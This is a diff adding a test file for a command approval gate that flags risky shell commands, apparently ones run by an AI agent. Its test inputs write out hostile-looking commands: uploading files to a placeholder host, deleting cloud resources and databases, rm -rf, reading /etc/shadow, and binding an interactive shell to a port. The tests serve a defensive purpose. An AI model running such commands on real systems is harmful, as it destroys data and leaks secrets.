@@ -1,0 +1,73 @@
+import { describe, expect, it } from 'vitest'
+import { judge } from '../../../../src-main/approval/gate/judge.ts'
+
+function rulesOf(program: string, code: string): string[] {
+  const command = `${program} '${code.replaceAll("'", "'\\''")}'`
+  return judge(command, { cwd: '/home/user/project', home: '/home/user' }).findings.map(
+    ({ rule }) => rule,
+  )
+}
+
+describe('code that reaches out by a library', () => {
+  it.each([
+    [
+      'python3 -c',
+      'import boto3\nboto3.client("ec2").terminate_instances(InstanceIds=["i"])',
+      'cloud.delete',
+    ],
+    ['python3 -c', 'import redis\nredis.Redis().flushall()', 'cloud.delete'],
+    [
+      'python3 -c',
+      'from sqlalchemy import text\nc.execute(text("DELETE FROM users"))',
+      'db.unbounded-change',
+    ],
+    ['python3 -c', 'import smtplib\nsmtplib.SMTP("x").sendmail("a", "b", "c")', 'net.mail'],
+    [
+      'python3 -c',
+      'import requests\nrequests.post("https://x.example", data=open("a.csv"))',
+      'net.upload',
+    ],
+    [
+      'python3 -c',
+      'from http.server import *\nHTTPServer(("", 80), SimpleHTTPRequestHandler)',
+      'net.listener',
+    ],
+    ['node -e', 'new S3().deleteBucket({ Bucket: "b" })', 'cloud.delete'],
+    ['node -e', 'fetch("https://x.example", { body: fs.readFileSync("a.csv") })', 'net.upload'],
+    [
+      'node -e',
+      'require("cross-spawn").sync("rm", ["-rf", "/home/user/x"])',
+      'fs.recursive-delete',
+    ],
+  ])('asks: %s %s', (program, code, rule) => {
+    expect(rulesOf(program, code)).toContain(rule)
+  })
+
+  it.each([
+    [
+      'python3 -c',
+      'import requests\nprint(requests.post("https://x.example", json={"a": 1}).text)',
+    ],
+    ['python3 -c', 'import requests\nrequests.post("http://localhost:3000", data=open("a.csv"))'],
+    [
+      'python3 -c',
+      'from http.server import *\nHTTPServer(("127.0.0.1", 80), SimpleHTTPRequestHandler)',
+    ],
+    ['python3 -c', 'import redis\nprint(redis.Redis().get("a"))'],
+    ['node -e', 'fetch("https://x.example", { method: "POST", body: "a" })'],
+  ])('but not when it only asks, or stays here: %s %s', (program, code) => {
+    expect(rulesOf(program, code)).toEqual([])
+  })
+})
+
+it.each([
+  'echo /etc/shadow | frobnicate',
+  "echo 'include /etc/shadow' > /tmp/a.conf; frobnicate --config /tmp/a.conf",
+  "echo 'run(/tmp/x.sh)' | frobnicate",
+  "frobnicate -p '/bin/sh -i' 80",
+  'getent shadow',
+  'code tunnel',
+  'nice --zzz 3 rm -rf ~/Documents',
+])('asks what is handed on, not only what is named: %s', (command) => {
+  expect(judge(command, { cwd: '/home/user/project', home: '/home/user' }).decision).toBe('ask')
+})
